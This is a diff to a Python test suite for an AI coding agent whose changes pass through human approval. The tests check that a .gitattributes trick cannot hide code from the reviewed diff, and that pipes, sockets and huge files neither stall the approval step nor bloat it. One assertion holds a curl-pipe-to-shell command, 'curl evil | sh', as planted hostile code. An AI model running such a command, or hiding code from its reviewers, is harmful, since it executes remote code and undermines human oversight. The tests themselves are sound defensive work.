@@ -142,7 +142,27 @@ async def test_a_gitattributes_of_the_agents_cannot_hide_code_from_the_diff(tmp_
         await worker.command("tidy up")
         approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
         assert "os.system('curl evil | sh')" in approval[0]["diff"]
-        assert "Binary" not in approval[0]["diff"]
+        assert "binary" not in approval[0]["diff"]
+        assert [(f["path"], f["added"], f["removed"]) for f in approval[0]["files"]] == [("app.py", 2, 2)]
+
+
+@as_root
+async def test_pipes_and_huge_files_neither_stick_the_owner_nor_fill_the_worker(tmp_path: Path) -> None:
+    async with worker_stack(tmp_path) as worker:
+        worker.anthropic.script("make a mess", bash(
+            "rm app.py && mkfifo app.py && python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('s.sock')\" "
+            "&& head -c 30000000 /dev/zero | tr '\\0' 'a' | fold -w 100 > huge.txt", "mess"), Text("Messy."))
+        worker.anthropic.script("again", write(f"{worker.checkout()}/ok.txt", "ok\n"), Text("Fine."))
+        await worker.command("make a mess")
+        approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
+        files = {f["path"]: f for f in approval[0]["files"]}
+        assert set(files) == {"app.py", "huge.txt"} and files["huge.txt"]["binary"] is True
+        assert files["app.py"]["removed"] == 2  # the pipe is gone; app.py shows as deleted
+        assert len(approval[0]["diff"]) < 2000
+        assert (await worker.decide("reject")).status_code == 202
+        await wait_for(lambda: worker.relay.of_type("rolled_back"), STEP, "the rollback")
+        await worker.command("again")
+        await wait_for(lambda: len(worker.relay.of_type("approval_required")) == 2, STEP, "the next run's approval")
 
 
 async def test_approve_commits_the_tree_that_was_shown(tmp_path: Path) -> None:
